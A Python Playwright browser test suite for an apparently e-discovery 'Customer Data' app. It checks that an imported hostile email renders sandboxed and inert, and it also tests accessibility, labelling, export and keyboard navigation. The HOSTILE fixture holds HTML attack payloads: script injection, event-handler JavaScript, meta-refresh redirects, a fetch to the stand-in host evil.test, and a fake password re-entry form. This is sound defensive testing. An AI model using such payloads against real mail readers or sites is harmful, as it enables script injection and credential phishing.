"""Finding and reading Customer Data in a real browser: a hostile mail does nothing, and every page is accessible and fits."""

import re
from email.message import EmailMessage

import pytest
from playwright.sync_api import expect

from tests.commands.processes import wait_until
from tests.journeys.conftest import DESK, PHONE
from tests.journeys.steps import check_page, search, sign_in

pytestmark = pytest.mark.browser
OWNER = "amara@harbourlane.example"
HOSTILE = """
<html><head><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/moved">
<style>@import "http://evil.test/a.css"; body { background: url(http://evil.test/b.png) }</style>
<script src="http://evil.test/c.js"></script><script>top.document.title = "taken"; fetch("http://evil.test/d")</script></head>
<body background="http://evil.test/e.png" onload="top.document.title='taken'">
<p>Seen by the reader</p><img src="http://evil.test/f.png" onerror="top.document.title='taken'"><img src="cid:none">
<svg onload="top.document.title='taken'"><image href="http://evil.test/g.png"/></svg>
<iframe src="http://evil.test/h"></iframe><object data="http://evil.test/i"></object><link rel="prefetch" href="http://evil.test/j">
<form action="http://evil.test/k"><input name="password"><button>Sign in again</button></form>
<a href="javascript:top.document.title='taken'">A link</a> <a href="http://evil.test/l">Another link</a>
<video src="http://evil.test/m" autoplay></video><p style="background:url(http://evil.test/n)">styled</p></body></html>
"""


def hostile_mail(subject):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Mallory <m@evil.test>", "box@harbourlane.example", subject
    mail["Date"] = "Mon, 02 Nov 2026 10:00:00 +0000"
    mail.set_content("Plain words")
    mail.add_alternative(HOSTILE, subtype="html")
    return mail.as_bytes()


def bring_in(page, name, data):
    """One file through the form of the import, as a person does it; until the worker is done."""
    page.goto("/data/import")
    page.locator("input[name=custodian]").fill("box@harbourlane.example")
    page.locator("input[type=file]").first.set_input_files(
        [{"name": name, "mimeType": "message/rfc822", "buffer": data}]
    )
    page.get_by_role("button", name=re.compile("import", re.IGNORECASE)).first.click()
    page.wait_for_url(re.compile(r"/data/import/[0-9a-f-]{36}$"))


def open_found(page, words):
    """Search until it is there, and open it."""

    def there():
        page.goto(f"/data?q={words}")
        return page.locator("a[data-row-link]").count() > 0

    wait_until(there, why=f"no item with {words}")
    page.locator("a[data-row-link]").first.click()
    expect(page.get_by_role("heading", level=1)).to_be_visible()


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_a_hostile_mail_runs_nothing_and_asks_nobody_for_anything(window, site, scripts):
    own = window()
    sign_in(own.page, OWNER)
    word = "ambush" + ("a" if scripts else "b")
    bring_in(own.page, f"{word}.eml", hostile_mail(f"Hostile {word}"))
    reader = window(java_script_enabled=scripts, storage_state=own.context.storage_state())
    page, asked, dialogs = reader.page, [], []
    reader.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    open_found(page, word)
    expect(page.get_by_text("Plain words")).to_be_visible()
    page.get_by_role("link", name="As designed").click()
    frame = page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_text("Seen by the reader")).to_be_visible()
    expect(
        frame.locator("script, form, input, iframe, object, svg, link, meta[http-equiv], video, [style]")
    ).to_have_count(0)
    title = page.title()
    frame.get_by_text("Another link").first.click(force=True)
    page.wait_for_timeout(500)
    assert page.title() == title
    assert "taken" not in title
    assert len(reader.context.pages) == 1, "a link opened a window"
    assert not dialogs
    if scripts:
        assert [text for text in reader.complaints if "Blocked opening" in text], "the frame let the link open"
    reader.complaints[:] = [text for text in reader.complaints if "Blocked opening" not in text]
    foreign = [url for url in asked if not url.startswith((site, "data:"))]
    assert not foreign, foreign
    assert len([url for url in asked if url.endswith("/html")]) == 1


def test_control_the_same_page_unsandboxed_does_ask(window, site):
    """The detector sees what it is there for: the same HTML, shown as it is, asks for something."""
    asked = []
    hostile = window()
    hostile.context.on("request", lambda request: asked.append(request.url))
    hostile.context.route("http://evil.test/**", lambda route: route.fulfill(status=204, body=""))
    hostile.page.set_content(HOSTILE)
    wait_until(lambda: any("evil.test" in url for url in asked), why="nothing was asked for")
    hostile.complaints.clear()


@pytest.mark.parametrize("colours", ["light", "dark"])
@pytest.mark.parametrize("size", [PHONE, DESK], ids=["phone", "desk"])
def test_every_page_about_data_is_accessible_and_fits(window, colours, size):
    page = window(viewport=size, color_scheme=colours).page
    sign_in(page, OWNER)
    for path in (
        "/data",
        "/data?q=invoice&from=2020-01-01&kind=message",
        "/data?q=nothing-at-all-like-this",
        "/data/overview",
        "/data/labels",
        "/data/custodians",
        "/data/export?kind=pdf",
    ):
        page.goto(path)
        check_page(page)
    page.goto("/data")
    page.get_by_role("checkbox", name=re.compile("^Select ")).nth(2).check()
    check_page(page)
    for kind in ("message&attachments=yes", "image", "pdf", "text"):
        page.goto(f"/data?kind={kind}")
        page.locator("a[data-row-link]").first.click()
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        check_page(page)
        for view in ("headers", "source") if kind.startswith("message") else ():
            page.goto(page.url.split("view=")[0] + f"&view={view}")
            check_page(page)
    page.goto("/data/labels")
    page.get_by_role("link", name=re.compile("^Delete ")).first.click()
    check_page(page)
    page.goto("/data/custodians")
    page.get_by_role("link", name=re.compile("^Change ")).first.click()
    check_page(page)


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_somebody_finds_a_message_labels_it_and_exports_it(window, scripts):
    page = window(java_script_enabled=scripts).page
    sign_in(page, OWNER)
    page.goto("/data")
    search(page, "contract", scripts=scripts)
    expect(page.locator("mark").first).to_be_visible()
    box = page.get_by_role("checkbox", name=re.compile("^Select .*Grünwald")).first
    box.check()
    name = "Spring review" if scripts else "Autumn review"
    page.get_by_label("New label").fill(name)
    page.get_by_role("button", name="Put on").click()
    expect(page.get_by_text(f"“{name}” was put on 1 item.")).to_be_visible()
    page.get_by_role("checkbox", name=re.compile("^Select .*Grünwald")).first.check()
    page.get_by_role("button", name="Export", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Export 1 item?")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download the export").click()
    assert download.value.suggested_filename.endswith(".zip")


def test_keys_lead_through_the_list_and_from_item_to_item(window):
    page = window().page
    sign_in(page, OWNER)
    page.goto("/data?kind=message&limit=25")
    first, second = [page.locator("a[data-row-link]").nth(place).get_attribute("href") for place in (0, 1)]
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(page.locator("a[data-row-link]").nth(1)).to_be_focused()
    page.keyboard.press("k")
    page.keyboard.press("o")
    page.wait_for_url(f"**{first}")
    page.keyboard.press("j")
    page.wait_for_url(f"**{second}")
    page.keyboard.press("k")
    page.wait_for_url(f"**{first}")
    page.keyboard.press("g")
    page.keyboard.press("d")
    page.wait_for_url("**/data")
